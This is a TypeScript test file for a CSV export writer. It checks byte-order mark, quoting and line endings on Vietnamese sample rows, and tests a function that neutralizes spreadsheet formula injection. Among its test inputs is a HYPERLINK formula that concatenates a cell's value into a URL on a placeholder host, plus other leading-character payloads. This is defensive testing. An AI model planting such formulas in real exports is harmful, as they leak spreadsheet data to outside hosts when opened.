import { createWriteStream } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { ExportTable } from './export-table';
import { asAsync } from './testing/sample-table';
import { writeExport } from './write-export';
import { neutralizeFormula } from './csv-writer';

const columns = [
  { header: 'STT', key: 'stt' },
  { header: 'Họ và tên', key: 'name' },
  { header: 'Điểm', key: 'total', decimals: 2 },
  { header: 'Thành tích', key: 'achievement' },
];

const rows = [
  { stt: 1, name: 'Nguyễn Thị Hoà', total: 95.5, achievement: 'Tận tuỵ, gương mẫu' },
  { stt: 2, name: 'Đặng Văn Đức', total: 90, achievement: 'Được khen "xuất sắc"' },
  { stt: 3, name: 'Trần Quốc Bảo', total: null, achievement: 'Dòng một\nDòng hai\r\nDòng ba' },
  { stt: 4, name: 'Lê, Thị "Ánh"', total: 88.25, achievement: 'Ký tự lẻ\rở giữa' },
  { stt: 5, name: 'Phạm Hữu Lộc', total: 70, achievement: null },
];

describe('writeExport csv', () => {
  let dir: string;
  let bytes: Buffer;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'exports-csv-'));
    const file = join(dir, 'list.csv');
    const table: ExportTable = { title: 'T', columns, rows: asAsync(rows), fileName: 'list' };
    await writeExport('csv', table, createWriteStream(file));
    bytes = await readFile(file);
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('starts with the UTF-8 byte-order mark', () => {
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('parses back to the same rows, header first, commas, quotes and newlines included', () => {
    const records = parse(bytes, { bom: true, record_delimiter: '\r\n' }) as string[][];
    expect(records).toEqual([
      ['STT', 'Họ và tên', 'Điểm', 'Thành tích'],
      ['1', 'Nguyễn Thị Hoà', '95.50', 'Tận tuỵ, gương mẫu'],
      ['2', 'Đặng Văn Đức', '90.00', 'Được khen "xuất sắc"'],
      ['3', 'Trần Quốc Bảo', '', 'Dòng một\nDòng hai\r\nDòng ba'],
      ['4', 'Lê, Thị "Ánh"', '88.25', 'Ký tự lẻ\rở giữa'],
      ['5', 'Phạm Hữu Lộc', '70.00', ''],
    ]);
  });

  it('quotes per RFC 4180 and ends every record with CRLF', () => {
    const text = bytes.toString('utf8').slice(1);
    expect(text.startsWith('STT,Họ và tên,Điểm,Thành tích\r\n')).toBe(true);
    expect(text).toContain('2,Đặng Văn Đức,90.00,"Được khen ""xuất sắc"""\r\n');
    expect(text).toContain('"Lê, Thị ""Ánh"""');
    expect(text).toContain('"Dòng một\nDòng hai\r\nDòng ba"');
    expect(text).toContain('"Ký tự lẻ\rở giữa"');
    expect(text.endsWith('5,Phạm Hữu Lộc,70.00,\r\n')).toBe(true);
  });
});

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://x"&B3,"x")', `'=HYPERLINK("http://x"&B3,"x")`],
    ['+1 sáng kiến', "'+1 sáng kiến"],
    ['-2 phản ánh', "'-2 phản ánh"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tđầu dòng', "'\tđầu dòng"],
    ['\rdòng', "'\rdòng"],
    ['Nguyễn Thị Hoà', 'Nguyễn Thị Hoà'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('text %j is written as %j', (text, expected) => {
    expect(neutralizeFormula(text, text)).toBe(expected);
  });

  it('leaves the numbers it formats alone, negative ones included', () => {
    expect(neutralizeFormula(-3, '-3')).toBe('-3');
    expect(neutralizeFormula(null, '')).toBe('');
  });
});
